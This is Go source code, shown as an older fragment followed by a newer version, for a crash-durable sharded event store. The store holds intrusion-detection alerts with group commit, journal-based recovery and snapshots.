		trust := raw
		if committed >= int64(len(fileMagic)) && committed < int64(len(raw)) {
			trust = raw[:committed]
		}
		good, _, err := scanFrames(trust[len(fileMagic):], func(payload []byte) error {
			ev, err := decodeEvent(payload)
			if err != nil {
				return err
			}
			events = append(events, ev)
			return nil
		})
		if err != nil {
			f.Close()
			return nil, 0, fmt.Errorf("eventstore: %s: %w", path, err)
		}
		size = int64(len(fileMagic) + good)
		if size < int64(len(raw)) {
			// Torn or uncommitted tail from a crash: drop it.
			if err := f.Truncate(size); err != nil {
				f.Close()
				return nil, 0, err
			}
		}
	}
	if _, err := f.Seek(size, 0); err != nil {
		f.Close()
		return nil, 0, err
	}
	sh := &shard{f: f, size: size, synced: size}
	sh.events.Store(&events)
	return sh, len(events), nil
}

// shardFor routes an event: by CVE when attributed, by SID otherwise.
func (s *Store) shardFor(ev *ids.Event) int {
	h := fnv.New32a()
	if ev.CVE != "" {
		h.Write([]byte(ev.CVE))
	} else {
		var b [8]byte
		for i := 0; i < 8; i++ {
			b[i] = byte(uint64(ev.SID) >> (8 * i))
		}
		h.Write(b[:])
	}
	return int(h.Sum32() % uint32(len(s.shards)))
}

// Append appends one event. See AppendBatch.
func (s *Store) Append(ev ids.Event) error { return s.AppendBatch([]ids.Event{ev}) }

// AppendBatch appends a batch of events (one generation bump for the whole
// batch). Events within the batch keep their order within each shard, and
// the batch is readable immediately; it becomes crash durable at the next
// Commit/Sync. Concurrent AppendBatch calls are safe — batches for
// different shards write in parallel — and concurrent snapshots never block
// on them.
func (s *Store) AppendBatch(events []ids.Event) error {
	if len(events) == 0 {
		return nil
	}
	groups := make(map[int][]ids.Event)
	for i := range events {
		si := s.shardFor(&events[i])
		groups[si] = append(groups[si], events[i])
	}
	// The shared hold spans the whole batch so the committer's exclusive cut
	// always lands on a batch boundary — a commit record can never cover half
	// a batch's shards.
	s.appendMu.RLock()
	for si, group := range groups {
		if err := s.shards[si].append(group); err != nil {
			s.appendMu.RUnlock()
			return err
		}
	}
	s.gen.Add(1)
	s.appendMu.RUnlock()
	if n := s.opts.SyncEvery; n > 0 && s.appended.Add(1)%uint64(n) == 0 {
		if err := s.Sync(); err != nil {
			return err
		}
	}
	return nil
}

func (sh *shard) append(events []ids.Event) error {
	// Encode outside the lock: only the file write and the publish need to
	// serialize with other appenders to this shard.
	var buf []byte
	var payload []byte
	for i := range events {
		payload = appendEvent(payload[:0], &events[i])
		buf = appendFrame(buf, payload)
	}
	sh.mu.Lock()
	defer sh.mu.Unlock()
	if _, err := sh.f.Write(buf); err != nil {
		return fmt.Errorf("eventstore: appending: %w", err)
	}
	sh.size += int64(len(buf))
	// Publish to readers: extending the slice only ever writes past every
	// published length, so holders of older headers see a stable prefix.
	cur := *sh.events.Load()
	next := append(cur, events...)
	sh.events.Store(&next)
	sh.lastAppend.Store(time.Now().UnixNano())
	return nil
}

// Generation returns the current store generation. It changes exactly when
// new data lands, so it is a complete cache key for derived results.
func (s *Store) Generation() uint64 { return s.gen.Load() }

// Len returns the number of stored events.
func (s *Store) Len() int {
	n := 0
	for _, sh := range s.shards {
		n += len(*sh.events.Load())
	}
	return n
}

// SizeBytes returns the total on-disk size of the shard logs.
func (s *Store) SizeBytes() int64 {
	var n int64
	for _, sh := range s.shards {
		sh.mu.Lock()
		n += sh.size
		sh.mu.Unlock()
	}
	return n
}

// Dir returns the store directory.
func (s *Store) Dir() string { return s.dir }

// ShardStats is one shard file's share of the store: how many records it
// holds, its on-disk size, and when it last received an append (zero if
// nothing has landed since open — recovered data does not count).
type ShardStats struct {
	Shard      int
	Records    int
	SizeBytes  int64
	LastAppend time.Time
}

// ShardStats reports per-shard record counts, sizes, and last-append times,
// in shard order. It is the /metrics view of routing balance: a hot or stale
// shard shows up here long before the aggregate Len does.
func (s *Store) ShardStats() []ShardStats {
	out := make([]ShardStats, len(s.shards))
	for i, sh := range s.shards {
		out[i].Shard = i
		out[i].Records = len(*sh.events.Load())
		sh.mu.Lock()
		out[i].SizeBytes = sh.size
		sh.mu.Unlock()
		if ns := sh.lastAppend.Load(); ns != 0 {
			out[i].LastAppend = time.Unix(0, ns).UTC()
		}
	}
	return out
}

// LastAppend returns the time of the most recent append to any shard, or the
// zero time if nothing has been appended since open. Health checks compare it
// against a staleness window to spot a coordinator whose ingest has stalled.
func (s *Store) LastAppend() time.Time {
	var max int64
	for _, sh := range s.shards {
		if ns := sh.lastAppend.Load(); ns > max {
			max = ns
		}
	}
	if max == 0 {
		return time.Time{}
	}
	return time.Unix(0, max).UTC()
}

// Sync makes every appended batch crash durable. It is Commit preserving
// the current commit meta: only shards dirtied since the last commit are
// fsynced, then one journal record seals the group.
func (s *Store) Sync() error { return s.Commit(nil) }

// Commit group-commits everything appended so far: it takes a batch-aligned
// cut of shard sizes, fsyncs just the shards that grew since the last
// commit, then writes one fsynced journal record of the committed sizes
// plus meta. After Commit returns, a crash recovers exactly this cut — no
// more, and (absent storage failure) no less.
//
// meta is an opaque caller payload stored in the same record, so a caller's
// own progress marks (the fleet coordinator's per-sensor watermarks) become
// durable atomically with the events they describe. nil preserves the
// previous commit's meta (Sync's behavior); pass an empty non-nil slice to
// clear it. The last committed meta is recovered at Open via CommitMeta.
func (s *Store) Commit(meta []byte) error {
	s.commitMu.Lock()
	defer s.commitMu.Unlock()
	if meta == nil {
		meta = s.meta
	}
	// Consistent cut: exclusive hold waits out in-flight batches and blocks
	// new ones for a few loads, nothing more. Fsyncs happen after release,
	// concurrently with new appends — they cover at least the cut.
	s.appendMu.Lock()
	sizes := make([]int64, len(s.shards))
	for i, sh := range s.shards {
		sizes[i] = sh.size
	}
	s.appendMu.Unlock()
	dirty := false
	for i, sh := range s.shards {
		if sizes[i] > sh.synced {
			if err := sh.f.Sync(); err != nil {
				return fmt.Errorf("eventstore: syncing shard %d: %w", i, err)
			}
			dirty = true
		}
	}
	if !dirty && s.cj.last != nil && bytes.Equal(meta, s.meta) {
		return nil // nothing new since the last commit record
	}
	if err := s.cj.append(sizes, meta); err != nil {
		return err
	}
	for i, sh := range s.shards {
		if sizes[i] > sh.synced {
			sh.synced = sizes[i]
		}
	}
	s.meta = append([]byte(nil), meta...)
	return nil
}

// CommitMeta returns (a copy of) the opaque payload of the newest commit
// record — at open, the one recovery trusted.
func (s *Store) CommitMeta() []byte {
	s.commitMu.Lock()
	defer s.commitMu.Unlock()
	return append([]byte(nil), s.meta...)
}

// Close commits and closes the shard files and journal. The store must not
// be used afterwards.
func (s *Store) Close() error {
	s.closeMu.Lock()
	defer s.closeMu.Unlock()
	if s.closed {
		return nil
	}
	s.closed = true
	first := s.Commit(nil)
	for _, sh := range s.shards {
		sh.mu.Lock()
		if err := sh.f.Close(); err != nil && first == nil {
			first = err
		}
		sh.mu.Unlock()
	}
	s.commitMu.Lock()
	if err := s.cj.Close(); err != nil && first == nil {
		first = err
	}
	s.commitMu.Unlock()
	return first
}

// Snapshot returns a consistent point-in-time view of the store. Snapshots
// are cheap when nothing changed (the previous one is reused) and immutable
// forever; appends after the call are invisible to it.
func (s *Store) Snapshot() *Snapshot {
	if sn := s.snap.Load(); sn != nil && sn.gen == s.gen.Load() {
		return sn
	}
	s.snapMu.Lock()
	defer s.snapMu.Unlock()
	for {
		gen := s.gen.Load()
		if sn := s.snap.Load(); sn != nil && sn.gen == gen {
			return sn
		}
		parts := make([][]ids.Event, len(s.shards))
		total := 0
		for i, sh := range s.shards {
			parts[i] = *sh.events.Load()
			total += len(parts[i])
		}
		if s.gen.Load() != gen {
			continue // an append raced the reads; retry for a stable view
		}
		merged := make([]ids.Event, 0, total)
		for _, p := range parts {
			merged = append(merged, p...)
		}
		sort.SliceStable(merged, func(i, j int) bool {
			a, b := &merged[i], &merged[j]
			if !a.Time.Equal(b.Time) {
				return a.Time.Before(b.Time)
			}
			if a.SID != b.SID {
				return a.SID < b.SID
			}
			if a.Src.Addr != b.Src.Addr {
				return a.Src.Addr.Less(b.Src.Addr)
			}
			return a.Src.Port < b.Src.Port
		})
		sn := &Snapshot{gen: gen, events: merged}
		s.snap.Store(sn)
		return sn
	}
}

// Snapshot is an immutable, time-ordered view of the store at one
// generation.
type Snapshot struct {
	gen    uint64
	events []ids.Event

	once  sync.Once
	byCVE map[string][]ids.Event
}

// Generation identifies the store state this snapshot reflects.
func (sn *Snapshot) Generation() uint64 { return sn.gen }

// Len returns the number of events in the snapshot.
func (sn *Snapshot) Len() int { return len(sn.events) }

// Events returns the full time-ordered event slice. Callers must treat it
// as read-only; it is shared by every user of the snapshot.
func (sn *Snapshot) Events() []ids.Event { return sn.events }

// CVE returns the events attributed to one CVE (in "YYYY-NNNN" form), in
// time order. The per-CVE index is built lazily on first use.
func (sn *Snapshot) CVE(cve string) []ids.Event {
	sn.index()
	return sn.byCVE[cve]
}

// CVEs returns the attributed CVE identifiers present, sorted.
func (sn *Snapshot) CVEs() []string {
	sn.index()
	out := make([]string, 0, len(sn.byCVE))
	for cve := range sn.byCVE {
		out = append(out, cve)
	}
	sort.Strings(out)
	return out
}

func (sn *Snapshot) index() {
	sn.once.Do(func() {
		sn.byCVE = make(map[string][]ids.Event)
		for i := range sn.events {
			if cve := sn.events[i].CVE; cve != "" {
				sn.byCVE[cve] = append(sn.byCVE[cve], sn.events[i])
			}
		}
	})
}
