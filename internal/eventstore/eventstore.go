// Package eventstore is the daemon's incremental event log: a sharded,
// append-only binary store of IDS exploit events (ids.Event) that survives
// crashes and serves consistent point-in-time snapshots while appends
// continue.
//
// Design:
//
//   - Events are routed to a shard by their CVE (falling back to SID), so
//     one CVE's history lives in one shard file and per-CVE queries touch a
//     single log.
//   - Each shard file is length-prefixed, CRC-checked records behind a
//     magic header. Opening a store replays every shard and truncates
//     trailing garbage — a torn append costs the torn record, nothing else.
//   - Readers never block writers and vice versa: each shard publishes its
//     event slice through an atomic pointer, and appends extend the slice
//     before republishing, so a reader's view is an immutable prefix.
//   - Every append bumps a store-wide generation. Snapshot() materializes
//     (and caches, keyed by generation) a merged, time-ordered view —
//     downstream analyses and the HTTP layer key their own caches off the
//     same generation, so nothing is recomputed until new data lands.
//   - Durability is group-committed: appends land in shard files (and in
//     readers' views) immediately, but only Commit/Sync makes them crash
//     durable — it fsyncs just the shards dirtied since the last commit,
//     then journals the committed shard sizes (plus an opaque caller meta
//     payload) in one fsynced record. On open, anything a shard holds
//     beyond its committed size is truncated: a crash between append and
//     commit can never leave half-promised events behind. Callers that
//     coalesce many appends into one Commit pay one fsync per dirty shard
//     plus one journal fsync for the whole group, not per batch.
package eventstore

import (
	"bytes"
	"fmt"
	"hash/fnv"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/fault"
	"repro/internal/ids"
)

// Options tunes a store.
type Options struct {
	// Shards is the number of shard files. Zero means 4. The count is
	// sticky: it is recorded on first open and reused (a mismatch is an
	// error, since routing depends on it).
	Shards int
	// SyncEvery forces a commit after every n appended batches. Zero
	// disables periodic commits (Close still commits); crash-safety then
	// means "no corruption", not "no loss of the last moments".
	SyncEvery int
	// FS is the filesystem the store runs against. Nil means the real one
	// (fault.OS); the simulation harness substitutes a fault.SimFS to
	// search crash points and injected I/O errors.
	FS fault.FS
}

func (o Options) withDefaults() Options {
	if o.Shards == 0 {
		o.Shards = 4
	}
	return o
}

// Store is an on-disk event log open for appending and querying.
type Store struct {
	dir    string
	fs     fault.FS
	opts   Options
	shards []*shard
	gen    atomic.Uint64

	appended atomic.Uint64 // batches since last sync

	// appendMu lets Commit take a consistent batch-aligned cut of shard
	// sizes: appends hold it shared for the whole batch, the committer holds
	// it exclusively for microseconds while reading sizes. No I/O ever
	// happens under the exclusive hold, so appends stream on while the
	// committer fsyncs.
	appendMu sync.RWMutex

	// commitMu serializes Commit/Sync (the fleet committer and the local
	// ingest pipeline may both be durability callers on one store) and
	// guards cj and meta.
	commitMu sync.Mutex
	cj       *commitJournal
	meta     []byte // opaque payload of the newest commit record

	snapMu sync.Mutex
	snap   atomic.Pointer[Snapshot]

	// Amendment log state (see amend.go). amendMu serializes appends; the
	// published slice is lock-free for readers like the shard event slices.
	amendMu   sync.Mutex
	amendF    fault.File
	amendSize int64
	amendBad  error
	amends    atomic.Pointer[[]Amendment]

	closeMu sync.Mutex
	closed  bool
}

type shard struct {
	mu         sync.Mutex
	f          fault.File
	size       int64
	bad        error // set when a failed append could not be rolled back
	synced     int64 // bytes covered by the last commit (guarded by Store.commitMu)
	events     atomic.Pointer[[]ids.Event]
	committed  atomic.Int64 // events covered by the last commit record
	lastAppend atomic.Int64 // UnixNano of the most recent append; 0 = none since open
}

// Open opens (creating if needed) the store in dir and recovers every
// shard. Recovery trusts the commit journal: a shard's contents beyond its
// last committed size are an uncommitted tail (appended but never promised
// durable) and are truncated, as is any torn frame. A store without a
// commit journal (pre-group-commit, or one that never committed) adopts
// every intact record, matching the old recovery contract.
func Open(dir string, opts Options) (*Store, error) {
	opts = opts.withDefaults()
	fs := fault.Or(opts.FS)
	if err := fs.MkdirAll(dir, 0o755); err != nil {
		return nil, err
	}
	if err := checkShardCount(fs, dir, &opts); err != nil {
		return nil, err
	}
	cj, err := openCommitJournal(fs, dir)
	if err != nil {
		return nil, err
	}
	if cj.last != nil && len(cj.last.sizes) != opts.Shards {
		cj.Close()
		return nil, fmt.Errorf("eventstore: commit journal in %s covers %d shards, store has %d",
			dir, len(cj.last.sizes), opts.Shards)
	}
	s := &Store{dir: dir, fs: fs, opts: opts, cj: cj}
	if cj.last != nil {
		s.meta = append([]byte(nil), cj.last.meta...)
	}
	for i := 0; i < opts.Shards; i++ {
		committed := int64(-1) // no journal record: adopt every intact record
		if cj.last != nil {
			committed = cj.last.sizes[i]
		}
		sh, n, err := openShard(fs, filepath.Join(dir, shardName(i)), committed)
		if err != nil {
			for _, prev := range s.shards {
				prev.f.Close()
			}
			cj.Close()
			return nil, err
		}
		s.shards = append(s.shards, sh)
		if n > 0 {
			s.gen.Add(1) // recovered data is generation 1+
		}
	}
	if err := s.openAmendLog(); err != nil {
		for _, sh := range s.shards {
			sh.f.Close()
		}
		cj.Close()
		return nil, err
	}
	if cj.last == nil {
		// Seal the recovered state in an initial commit record before any
		// append can happen. Without it, recovery's no-journal fallback (adopt
		// every intact record) stays live after appends begin — and a crash
		// before the first commit can then resurrect uncommitted frames that
		// the page cache happened to flush on its own, events no commit meta
		// accounts for. A redelivering sensor would apply them twice. With the
		// record, every later recovery truncates to a real committed cut; the
		// adopt-everything path runs only at this upgrade moment, on state no
		// appender has touched.
		sizes := make([]int64, len(s.shards))
		for i, sh := range s.shards {
			sizes[i] = sh.size
		}
		if err := cj.append(sizes, s.meta); err != nil {
			for _, sh := range s.shards {
				sh.f.Close()
			}
			cj.Close()
			return nil, fmt.Errorf("eventstore: sealing recovered state: %w", err)
		}
	}
	return s, nil
}

func shardName(i int) string { return fmt.Sprintf("events-%02d.log", i) }

// checkShardCount pins the shard count in a marker file so reopening with a
// different Options.Shards (which would misroute CVEs) fails loudly.
func checkShardCount(fs fault.FS, dir string, opts *Options) error {
	marker := filepath.Join(dir, "SHARDS")
	b, err := fs.ReadFile(marker)
	if os.IsNotExist(err) || (err == nil && len(trimNL(b)) == 0) {
		// An empty marker is a crash between create and durability (the only
		// torn state a two-byte write can leave); it carries no information,
		// so rewrite it rather than wedging recovery. The write goes through
		// a synced handle — WriteFile alone is not durable.
		f, ferr := fs.OpenFile(marker, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o644)
		if ferr != nil {
			return ferr
		}
		if _, ferr = f.Write([]byte(strconv.Itoa(opts.Shards) + "\n")); ferr != nil {
			f.Close()
			return ferr
		}
		if ferr = f.Sync(); ferr != nil {
			f.Close()
			return ferr
		}
		return f.Close()
	}
	if err != nil {
		return err
	}
	n, convErr := strconv.Atoi(string(trimNL(b)))
	if convErr != nil || n <= 0 {
		return fmt.Errorf("eventstore: corrupt shard marker %q in %s", b, dir)
	}
	if n != opts.Shards {
		return fmt.Errorf("eventstore: store %s has %d shards, opened with %d", dir, n, opts.Shards)
	}
	return nil
}

func trimNL(b []byte) []byte {
	for len(b) > 0 && (b[len(b)-1] == '\n' || b[len(b)-1] == '\r') {
		b = b[:len(b)-1]
	}
	return b
}

// openShard reads one shard file, truncates trailing garbage, and leaves
// the handle positioned for appends. It returns the recovered event count.
// committed, when >= 0, is the shard's size in the last commit record: it
// bounds what recovery trusts — bytes beyond it are an uncommitted tail and
// are dropped even when their frames are intact, so a crash between append
// and commit never resurrects events the commit meta does not cover. Bytes
// below it recover frame by frame as before (a tear inside the committed
// region means storage failure; recovery salvages the intact prefix rather
// than refusing to open).
func openShard(fs fault.FS, path string, committed int64) (*shard, int, error) {
	f, err := fs.OpenFile(path, os.O_CREATE|os.O_RDWR, 0o644)
	if err != nil {
		return nil, 0, err
	}
	raw, err := fs.ReadFile(path)
	if err != nil {
		f.Close()
		return nil, 0, err
	}
	var events []ids.Event
	var size int64
	switch {
	case len(raw) < len(fileMagic) && bytes.Equal(raw, fileMagic[:len(raw)]):
		// Empty, or a strict prefix of the magic: a crash tore the shard's
		// creation before the header fully reached disk. Nothing else can
		// ever have been written, so reinitialize instead of refusing to
		// open (which would wedge every restart until manual cleanup).
		if _, err := f.Write(fileMagic[:]); err != nil {
			f.Close()
			return nil, 0, err
		}
		if err := f.Truncate(int64(len(fileMagic))); err != nil {
			f.Close()
			return nil, 0, err
		}
		size = int64(len(fileMagic))
	case len(raw) < len(fileMagic) || [8]byte(raw[:8]) != fileMagic:
		f.Close()
		return nil, 0, fmt.Errorf("eventstore: %s is not an event log", path)
	default:
		trust := raw
		if committed >= int64(len(fileMagic)) && committed < int64(len(raw)) {
			trust = raw[:committed]
		}
		good, _, err := scanFrames(trust[len(fileMagic):], func(payload []byte) error {
			ev, err := decodeEvent(payload)
			if err != nil {
				return err
			}
			events = append(events, ev)
			return nil
		})
		if err != nil {
			f.Close()
			return nil, 0, fmt.Errorf("eventstore: %s: %w", path, err)
		}
		size = int64(len(fileMagic) + good)
		if size < int64(len(raw)) {
			// Torn or uncommitted tail from a crash: drop it.
			if err := f.Truncate(size); err != nil {
				f.Close()
				return nil, 0, err
			}
		}
	}
	if _, err := f.Seek(size, 0); err != nil {
		f.Close()
		return nil, 0, err
	}
	sh := &shard{f: f, size: size, synced: size}
	sh.events.Store(&events)
	// Recovery truncated to the committed cut, so everything recovered is
	// committed by definition.
	sh.committed.Store(int64(len(events)))
	return sh, len(events), nil
}

// shardFor routes an event: by CVE when attributed, by SID otherwise.
func (s *Store) shardFor(ev *ids.Event) int {
	h := fnv.New32a()
	if ev.CVE != "" {
		h.Write([]byte(ev.CVE))
	} else {
		var b [8]byte
		for i := 0; i < 8; i++ {
			b[i] = byte(uint64(ev.SID) >> (8 * i))
		}
		h.Write(b[:])
	}
	return int(h.Sum32() % uint32(len(s.shards)))
}

// Append appends one event. See AppendBatch.
func (s *Store) Append(ev ids.Event) error { return s.AppendBatch([]ids.Event{ev}) }

// AppendBatch appends a batch of events (one generation bump for the whole
// batch). Events within the batch keep their order within each shard, and
// the batch is readable immediately; it becomes crash durable at the next
// Commit/Sync. Concurrent AppendBatch calls are safe — batches for
// different shards write in parallel — and concurrent snapshots never block
// on them.
func (s *Store) AppendBatch(events []ids.Event) error { return s.AppendBatchFunc(events, nil) }

// AppendBatchFunc is AppendBatch with a hook: applied (when non-nil) runs
// after the batch's writes have succeeded and its events are published, while
// the append locks are still held. A group committer uses it to register the
// batch in its commit queue atomically with the append: any commit cut that
// sees the batch's bytes then also sees its queue entry, so a commit record
// can never promise bytes durable that its meta does not account for — the
// gap that would otherwise let a crash turn a redelivery into a double apply.
// The hook must be non-blocking and must not call back into the store.
func (s *Store) AppendBatchFunc(events []ids.Event, applied func()) error {
	if len(events) == 0 {
		if applied != nil {
			applied()
		}
		return nil
	}
	groups := make(map[int][]ids.Event)
	for i := range events {
		si := s.shardFor(&events[i])
		groups[si] = append(groups[si], events[i])
	}
	// Encode outside any lock: only the file writes and the publish need to
	// serialize with other appenders.
	order := make([]int, 0, len(groups))
	for si := range groups {
		order = append(order, si)
	}
	sort.Ints(order)
	bufs := make([][]byte, len(order))
	var payload []byte
	for k, si := range order {
		var buf []byte
		for i := range groups[si] {
			payload = appendEvent(payload[:0], &groups[si][i])
			buf = appendFrame(buf, payload)
		}
		bufs[k] = buf
	}
	if err := s.appendLocked(order, bufs, groups, applied); err != nil {
		return err
	}
	if n := s.opts.SyncEvery; n > 0 && s.appended.Add(1)%uint64(n) == 0 {
		if err := s.Sync(); err != nil {
			return err
		}
	}
	return nil
}

// appendLocked writes one encoded batch under the append locks; the periodic
// SyncEvery commit happens in the caller, after every lock is released (Sync
// takes appendMu exclusively).
func (s *Store) appendLocked(order []int, bufs [][]byte, groups map[int][]ids.Event, applied func()) error {
	// The shared hold spans the whole batch so the committer's exclusive cut
	// always lands on a batch boundary — a commit record can never cover half
	// a batch's shards.
	s.appendMu.RLock()
	defer s.appendMu.RUnlock()
	// Hold every involved shard for the whole batch, in index order so
	// concurrent batches cannot deadlock. The batch is all-or-nothing: a
	// failed write must roll every touched shard back to its pre-batch
	// boundary with nothing interleaved in between — otherwise the caller
	// sees an error, redelivers, and the shards that had already taken their
	// group apply it twice.
	for _, si := range order {
		s.shards[si].mu.Lock()
	}
	defer func() {
		for _, si := range order {
			s.shards[si].mu.Unlock()
		}
	}()
	for _, si := range order {
		if bad := s.shards[si].bad; bad != nil {
			return bad
		}
	}
	written := -1 // index into order of the last shard whose write started
	var werr error
	for k, si := range order {
		written = k
		if _, werr = s.shards[si].f.Write(bufs[k]); werr != nil {
			break
		}
	}
	if werr != nil {
		// A short write (ENOSPC, torn write) leaves a partial frame past
		// sh.size while the handle offset has advanced. Without a rollback,
		// the NEXT successful append lands after that garbage; a later commit
		// then covers the garbage region, and recovery's frame scan stops
		// there — truncating committed frames. Roll every touched shard back
		// to its last good boundary; if even that fails, poison the shard so
		// no further append can widen the damage.
		for k := 0; k <= written; k++ {
			sh := s.shards[order[k]]
			if terr := sh.f.Truncate(sh.size); terr != nil {
				sh.bad = fmt.Errorf("eventstore: shard poisoned: rollback of failed append: %w", terr)
			} else if _, serr := sh.f.Seek(sh.size, io.SeekStart); serr != nil {
				sh.bad = fmt.Errorf("eventstore: shard poisoned: seek after failed append: %w", serr)
			}
		}
		return fmt.Errorf("eventstore: appending: %w", werr)
	}
	now := time.Now().UnixNano()
	for k, si := range order {
		sh := s.shards[si]
		sh.size += int64(len(bufs[k]))
		// Publish to readers: extending the slice only ever writes past every
		// published length, so holders of older headers see a stable prefix.
		cur := *sh.events.Load()
		next := append(cur, groups[si]...)
		sh.events.Store(&next)
		sh.lastAppend.Store(now)
	}
	s.gen.Add(1)
	if applied != nil {
		applied() // inside the locks: visible to any cut that sees these bytes
	}
	return nil
}

// Generation returns the current store generation. It changes exactly when
// new data lands, so it is a complete cache key for derived results.
func (s *Store) Generation() uint64 { return s.gen.Load() }

// Len returns the number of stored events.
func (s *Store) Len() int {
	n := 0
	for _, sh := range s.shards {
		n += len(*sh.events.Load())
	}
	return n
}

// SizeBytes returns the total on-disk size of the shard logs.
func (s *Store) SizeBytes() int64 {
	var n int64
	for _, sh := range s.shards {
		sh.mu.Lock()
		n += sh.size
		sh.mu.Unlock()
	}
	return n
}

// Dir returns the store directory.
func (s *Store) Dir() string { return s.dir }

// ShardStats is one shard file's share of the store: how many records it
// holds, its on-disk size, and when it last received an append (zero if
// nothing has landed since open — recovered data does not count).
type ShardStats struct {
	Shard      int
	Records    int
	SizeBytes  int64
	LastAppend time.Time
}

// ShardStats reports per-shard record counts, sizes, and last-append times,
// in shard order. It is the /metrics view of routing balance: a hot or stale
// shard shows up here long before the aggregate Len does.
func (s *Store) ShardStats() []ShardStats {
	out := make([]ShardStats, len(s.shards))
	for i, sh := range s.shards {
		out[i].Shard = i
		out[i].Records = len(*sh.events.Load())
		sh.mu.Lock()
		out[i].SizeBytes = sh.size
		sh.mu.Unlock()
		if ns := sh.lastAppend.Load(); ns != 0 {
			out[i].LastAppend = time.Unix(0, ns).UTC()
		}
	}
	return out
}

// LastAppend returns the time of the most recent append to any shard, or the
// zero time if nothing has been appended since open. Health checks compare it
// against a staleness window to spot a coordinator whose ingest has stalled.
func (s *Store) LastAppend() time.Time {
	var max int64
	for _, sh := range s.shards {
		if ns := sh.lastAppend.Load(); ns > max {
			max = ns
		}
	}
	if max == 0 {
		return time.Time{}
	}
	return time.Unix(0, max).UTC()
}

// Sync makes every appended batch crash durable. It is Commit preserving
// the current commit meta: only shards dirtied since the last commit are
// fsynced, then one journal record seals the group.
func (s *Store) Sync() error { return s.Commit(nil) }

// Commit group-commits everything appended so far: it takes a batch-aligned
// cut of shard sizes, fsyncs just the shards that grew since the last
// commit, then writes one fsynced journal record of the committed sizes
// plus meta. After Commit returns, a crash recovers exactly this cut — no
// more, and (absent storage failure) no less.
//
// meta is an opaque caller payload stored in the same record, so a caller's
// own progress marks (the fleet coordinator's per-sensor watermarks) become
// durable atomically with the events they describe. nil preserves the
// previous commit's meta (Sync's behavior); pass an empty non-nil slice to
// clear it. The last committed meta is recovered at Open via CommitMeta.
func (s *Store) Commit(meta []byte) error {
	if meta == nil {
		return s.CommitFunc(nil)
	}
	return s.CommitFunc(func() []byte { return meta })
}

// CommitFunc is Commit with the meta computed at the cut: metaFn (when
// non-nil) runs while the exclusive append lock is held, so the meta it
// returns can account for exactly the batches whose bytes the recorded sizes
// cover — no batch can slip in between the meta's computation and the size
// snapshot. The fleet coordinator drains its commit queue there; combined
// with AppendBatchFunc's in-lock enqueue this closes the window where a
// commit record covered a batch's bytes while its watermark advance was
// still in flight (after a crash, recovery would keep the bytes, the stale
// watermark would invite redelivery, and the batch would apply twice).
// metaFn returning nil preserves the previous record's meta, like
// Commit(nil). metaFn must not call back into the store.
func (s *Store) CommitFunc(metaFn func() []byte) error {
	s.commitMu.Lock()
	defer s.commitMu.Unlock()
	// Consistent cut: exclusive hold waits out in-flight batches and blocks
	// new ones for a few loads plus metaFn, nothing more. Fsyncs happen after
	// release, concurrently with new appends — they cover at least the cut.
	s.appendMu.Lock()
	var meta []byte
	if metaFn != nil {
		meta = metaFn()
	}
	if meta == nil {
		meta = s.meta
	}
	sizes := make([]int64, len(s.shards))
	counts := make([]int64, len(s.shards))
	for i, sh := range s.shards {
		sizes[i] = sh.size
		counts[i] = int64(len(*sh.events.Load()))
	}
	s.appendMu.Unlock()
	dirty := false
	for i, sh := range s.shards {
		if sizes[i] > sh.synced {
			if err := sh.f.Sync(); err != nil {
				return fmt.Errorf("eventstore: syncing shard %d: %w", i, err)
			}
			dirty = true
		}
	}
	if !dirty && s.cj.last != nil && bytes.Equal(meta, s.meta) {
		return nil // nothing new since the last commit record
	}
	if err := s.cj.append(sizes, meta); err != nil {
		return err
	}
	for i, sh := range s.shards {
		if sizes[i] > sh.synced {
			sh.synced = sizes[i]
		}
		if counts[i] > sh.committed.Load() {
			sh.committed.Store(counts[i])
		}
	}
	s.meta = append([]byte(nil), meta...)
	return nil
}

// CommitMeta returns (a copy of) the opaque payload of the newest commit
// record — at open, the one recovery trusted.
func (s *Store) CommitMeta() []byte {
	s.commitMu.Lock()
	defer s.commitMu.Unlock()
	return append([]byte(nil), s.meta...)
}

// Close commits and closes the shard files and journal. The store must not
// be used afterwards.
func (s *Store) Close() error {
	s.closeMu.Lock()
	defer s.closeMu.Unlock()
	if s.closed {
		return nil
	}
	s.closed = true
	first := s.Commit(nil)
	for _, sh := range s.shards {
		sh.mu.Lock()
		if err := sh.f.Close(); err != nil && first == nil {
			first = err
		}
		sh.mu.Unlock()
	}
	s.amendMu.Lock()
	if err := s.amendF.Close(); err != nil && first == nil {
		first = err
	}
	s.amendMu.Unlock()
	s.commitMu.Lock()
	if err := s.cj.Close(); err != nil && first == nil {
		first = err
	}
	s.commitMu.Unlock()
	return first
}

// CommittedEvents returns, shard by shard, the event prefix covered by the
// newest commit record — exactly what a crash right now is promised to
// recover. Each returned slice is an immutable prefix of its shard's log
// (appends only ever extend past every published length), so callers may
// hold it indefinitely without copying. The timeline segmenter seals from
// these prefixes: a sealed segment can then never contain an event a
// recovered store would not.
func (s *Store) CommittedEvents() [][]ids.Event {
	out := make([][]ids.Event, len(s.shards))
	for i, sh := range s.shards {
		events := *sh.events.Load()
		// The committed count is captured under the same exclusive cut as the
		// committed sizes, so it can never exceed the published length; load
		// order (events first) keeps that true even against a racing commit.
		n := sh.committed.Load()
		if n > int64(len(events)) {
			n = int64(len(events))
		}
		out[i] = events[:n:n]
	}
	return out
}

// PublishedEvents returns, shard by shard, every readable event: the
// committed prefix plus the appended-but-not-yet-committed tail (what
// Snapshot merges). Slices are immutable prefixes, as for CommittedEvents.
func (s *Store) PublishedEvents() [][]ids.Event {
	out := make([][]ids.Event, len(s.shards))
	for i, sh := range s.shards {
		events := *sh.events.Load()
		out[i] = events[:len(events):len(events)]
	}
	return out
}

// Less is the store's canonical event order — by time, then SID, then source
// endpoint — the order Snapshot publishes and every downstream byte-parity
// check depends on. SortEvents applies it.
func Less(a, b *ids.Event) bool {
	if !a.Time.Equal(b.Time) {
		return a.Time.Before(b.Time)
	}
	if a.SID != b.SID {
		return a.SID < b.SID
	}
	if a.Src.Addr != b.Src.Addr {
		return a.Src.Addr.Less(b.Src.Addr)
	}
	return a.Src.Port < b.Src.Port
}

// SortEvents sorts events into the store's canonical order (see Less),
// stably, so equal keys keep their incoming order exactly as Snapshot does.
func SortEvents(events []ids.Event) {
	sort.SliceStable(events, func(i, j int) bool { return Less(&events[i], &events[j]) })
}

// Snapshot returns a consistent point-in-time view of the store. Snapshots
// are cheap when nothing changed (the previous one is reused) and immutable
// forever; appends after the call are invisible to it.
